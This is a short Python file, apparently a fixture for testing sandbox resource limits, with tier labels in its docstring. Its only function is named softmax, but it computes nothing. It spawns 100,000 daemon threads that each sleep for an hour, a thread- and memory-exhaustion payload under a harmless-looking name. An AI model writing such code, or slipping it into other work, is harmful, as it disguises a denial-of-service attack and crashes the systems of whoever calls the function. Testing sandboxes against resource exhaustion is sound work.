"""Starts threads until there are no more.

tiers: full locked
also: memory
"""

import threading
import time


def softmax(x):
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
